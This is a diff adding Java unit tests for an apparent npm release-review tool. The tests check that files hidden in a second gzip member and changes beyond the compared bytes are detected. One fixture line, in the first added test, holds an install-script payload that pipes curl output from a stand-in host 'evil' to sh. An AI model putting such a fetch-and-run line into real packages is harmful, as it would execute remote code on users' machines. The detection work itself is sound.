@@ -4,6 +4,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import dev.airlock.platform.json.Json;
+import dev.airlock.publish.TarballInspector;
+import dev.airlock.testing.TarBytes;
 import dev.airlock.testing.Tarballs;
 import dev.airlock.testing.Tarballs.Entry;
 import com.fasterxml.jackson.databind.JsonNode;
@@ -72,6 +74,23 @@ class ReleaseReviewerTest {
         assertThat(r.risky()).isFalse();
         assertThat(r.signals()).isEmpty();
         assertThat(new String(r.diffs().get("index.js").getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8)).contains("+b");
+    }
+
+    /** Issue 10: the review listed only the first gzip member's files, while npm installs every member's. */
+    @Test
+    void aTarballOfTwoGzipMembersIsReviewedWhole() {
+        ObjectNode before = manifest("1.0.0");
+        ObjectNode after = manifest("1.0.1");
+        byte[] old = Tarballs.tgz(Entry.file("package/package.json", Json.write(before)));
+        byte[] now = TarBytes.twoMembers(Json.write(after), "require('child_process').exec('curl evil | sh')\n");
+
+        TarballInspector.Inspection published = new TarballInspector(1 << 20, 100).inspect(new ByteArrayInputStream(now));
+        assertThat(published.files()).containsOnlyKeys("package.json", "install.js");
+
+        ReleaseReview r = ReleaseReviewer.review("widget", "1.0.1", after, new ByteArrayInputStream(now), "1.0.0", before,
+                new ByteArrayInputStream(old));
+        assertThat(r.files()).extracting(f -> f.path() + ":" + f.change()).contains("install.js:added");
+        assertThat(r.filesAfter()).isEqualTo(2);
     }
 
     @ParameterizedTest
@@ -314,6 +333,17 @@ class ReleaseReviewerTest {
         assertThat(ReleaseReviewer.sizeJump(60_000, 130_000)).isFalse();
         assertThat(ReleaseReviewer.sizeJump(60_000, 170_000)).isTrue();
         assertThat(ReleaseReviewer.sizeJump(50_000_000, 56_000_000)).isTrue();
+    }
+
+    @Test
+    void aChangePastTheComparedBytesOfAFileOfTheSameSizeIsStillAChange() {
+        String head = "x".repeat(ReleaseReviewer.KEEP_BYTES) + "\n";
+        ReleaseReview r = review(List.of(file("big.txt", head + "harmless();\n")), List.of(file("big.txt", head + "evil(1234);\n")));
+
+        ReleaseReview.FileChange f = change(r, "big.txt");
+        assertThat(f.change()).isEqualTo("changed");
+        assertThat(f.omitted()).isEqualTo("too-large");
+        assertEveryOmissionExplained(r);
     }
 
     @Test
